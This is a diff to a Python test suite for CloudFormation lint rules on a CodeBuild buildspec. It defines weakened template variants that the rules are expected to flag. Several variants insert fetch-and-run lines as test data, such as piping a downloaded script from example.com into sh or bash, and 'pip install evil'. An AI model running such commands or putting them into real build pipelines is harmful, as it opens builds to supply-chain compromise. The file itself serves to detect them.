@@ -14,6 +14,9 @@ from tests.rules.conftest import Findings, validated
 ROOT = Path(__file__).parents[2]
 OURS = ROOT / "templates/Deploy-ApplicationEncryptor-Cfn.yaml"
 
+FIRST = '- folder=$(mktemp -d -- "$CODEBUILD_SRC_DIR/../encryptor.XXXXXXXX") && cd -- "$folder"'
+"""The build's first command."""
+
 Template = dict[str, Any]
 Weaken = Callable[[Template], None]
 
@@ -169,11 +172,11 @@ WEAKENED: dict[str, tuple[str, Weaken]] = {
     "unpinned-install": ("E9205", build("--require-hashes", "")),
     "install-by-another-tool": (
         "E9205",
-        build('- mkdir -p -- "$HOME/encryptor"', "- yum install -y zip"),
+        build(FIRST, f"- yum install -y zip\n  {FIRST}"),
     ),
     "install-from-a-page": (
         "E9205",
-        build('- mkdir -p -- "$HOME/encryptor"', "- curl -s https://example.com/setup | sh"),
+        build(FIRST, f"- curl -s https://example.com/setup | sh\n  {FIRST}"),
     ),
     "old-image": (
         "W9206",
@@ -224,7 +227,7 @@ WEAKENED: dict[str, tuple[str, Weaken]] = {
     ),
     "upload-flag-in-a-comment": (
         "E9203",
-        build('"ExpectedBucketOwner": account,', "# ExpectedBucketOwner"),
+        build(', "ExpectedBucketOwner": account}', "} # ExpectedBucketOwner"),
     ),
     "second-source": (
         "E9204",
@@ -257,16 +260,16 @@ WEAKENED: dict[str, tuple[str, Weaken]] = {
     ),
     "unpinned-install-before-a-pinned-one": (
         "E9205",
-        build("- mkdir -p --", "- pip install evil\n    - mkdir -p --"),
+        build(FIRST, f"- pip install evil\n  {FIRST}"),
     ),
     "hashes-in-a-comment": ("E9205", build("--require-hashes", "# --require-hashes")),
     "install-by-module": (
         "E9205",
-        build("- mkdir -p --", "- python3.13 -mpip install evil\n    - mkdir -p --"),
+        build(FIRST, f"- python3.13 -mpip install evil\n  {FIRST}"),
     ),
     "download-and-run": (
         "E9205",
-        build("- mkdir -p --", "- curl -o x https://example.com && bash x\n    - mkdir -p --"),
+        build(FIRST, f"- curl -o x https://example.com && bash x\n  {FIRST}"),
     ),
     "buildspec-of-the-repository": (
         "E9005",
@@ -286,7 +289,7 @@ WEAKENED: dict[str, tuple[str, Weaken]] = {
     ),
     "another-command": (
         "W9209",
-        build("- mkdir -p --", "- sed -i s/a/b/ encryptor.py\n    - mkdir -p --"),
+        build(FIRST, f"- sed -i s/a/b/ encryptor.py\n  {FIRST}"),
     ),
     "sealing-with-another-key-in-the-command": (
         "W9209",
@@ -335,7 +338,7 @@ def another_project(template: Template) -> None:
 
 HARMLESS: dict[str, Weaken] = {
     "another-project-for-something-else": another_project,
-    "a-comment-in-the-buildspec": build("# Wheels only", "# Only wheels"),
+    "a-comment-in-the-buildspec": build("# Leave the repository", "# Go elsewhere"),
     "the-log-by-its-name": lambda template: project(template)["LogsConfig"][
         "CloudWatchLogs"
     ].update(GroupName={"Fn::Sub": "${BuildLog}"}),
